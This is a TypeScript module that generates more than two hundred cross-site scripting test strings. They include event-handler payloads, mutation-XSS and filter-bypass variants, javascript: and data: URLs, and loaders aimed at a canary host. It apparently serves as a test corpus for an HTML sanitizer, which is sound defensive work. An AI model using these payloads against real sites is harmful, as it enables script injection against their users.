/** A host that no page may ever request. */
export const CANARY = 'https://canary.example';

const RUN = 'foyerRan(1)';
const LOAD = `${CANARY}/x`;

/** Elements that run a script by themselves, with `%` for the script. */
const CARRIERS = [
  '<img src=x onerror=%>',
  '<img src="x" onerror="%">',
  "<img/src='x'/onerror='%'>",
  '<IMG SRC=x OnErRoR=%>',
  '<img src=x\tonerror\n=\n%>',
  '<svg onload=%>',
  '<svg/onload=%//',
  '<svg><animate onbegin=% attributeName=x dur=1s>',
  '<svg><set onbegin=% attributeName=x>',
  '<body onload=%>',
  '<body onpageshow=%>',
  '<details open ontoggle=%>x</details>',
  '<input autofocus onfocus=%>',
  '<select autofocus onfocus=%></select>',
  '<textarea autofocus onfocus=%></textarea>',
  '<video autoplay src=x onerror=%></video>',
  '<video><source onerror=%></video>',
  '<audio src=x onerror=%></audio>',
  '<object data=x onerror=%></object>',
  '<embed src=x onerror=%>',
  '<iframe onload=%></iframe>',
  '<marquee onstart=%>x</marquee>',
  '<style onload=%></style>',
  '<link rel=stylesheet href=data:, onload=%>',
  '<p style="animation:x" onanimationstart=%>x</p>',
  '<a href=# autofocus tabindex=0 onfocus=%>x</a>',
  '<button popovertarget=x onclick=%>x</button><div popover id=x onbeforetoggle=%>y</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror=%></style></mglyph></table></mtext></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=%>">',
  '<noscript><p title="</noscript><img src=x onerror=%>"></noscript>',
  '<svg><style><!--</style><img src=x onerror=%>--></style></svg>',
  '<template><img src=x onerror=%></template>',
  '<select><style></select><img src=x onerror=%></style></select>',
  '<custom-element onconnected=% is=x><img src=x onerror=%></custom-element>',
] as const;

/** Prefixes that break out of the surrounding markup. */
const BREAKS = ['%', '">%', "'>%", '</title>%', '</textarea>%', '-->%', ']]>%'] as const;

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
] as const;

/** Elements that navigate to an address, with `%` for it. */
const LINKS = [
  '<a href="%">link</a>',
  '<form action="%"><button>send</button></form>',
  '<button formaction="%">send</button>',
  '<iframe src="%"></iframe>',
  '<svg><a xlink:href="%"><text>link</text></a></svg>',
  '<math href="%">link</math>',
] as const;

/** Elements that load from another host. */
const LOADERS = [
  `<img src="${LOAD}">`,
  `<img srcset="${LOAD} 1x">`,
  `<picture><source srcset="${LOAD}"><img></picture>`,
  `<input type=image src="${LOAD}">`,
  `<video poster="${LOAD}" src="${LOAD}"></video>`,
  `<link rel=stylesheet href="${LOAD}">`,
  `<link rel=prefetch href="${LOAD}">`,
  `<style>@import url(${LOAD})</style>`,
  `<p style="background:url(${LOAD})">x</p>`,
  `<table background="${LOAD}"><tr><td>x</table>`,
  `<base href="${LOAD}/">`,
  `<meta http-equiv=refresh content="0;url=${LOAD}">`,
  `<object data="${LOAD}"></object>`,
  `<embed src="${LOAD}">`,
  `<iframe src="${LOAD}"></iframe>`,
  `<script src="${LOAD}"></script>`,
  `<svg><image href="${LOAD}"/><use href="${LOAD}#x"/></svg>`,
] as const;

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `\u0000<script>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `';${RUN};'`,
] as const;

const filled = (pattern: string, what: string): string => pattern.replaceAll('%', () => what);

/** Texts that try to run `foyerRan` or to request the canary's host, more than two hundred of them. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...BREAKS.flatMap((frame) => CARRIERS.map((carrier) => filled(frame, filled(carrier, RUN)))),
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => filled(link, address))),
  ...LOADERS,
  ...SCRIPTS,
];
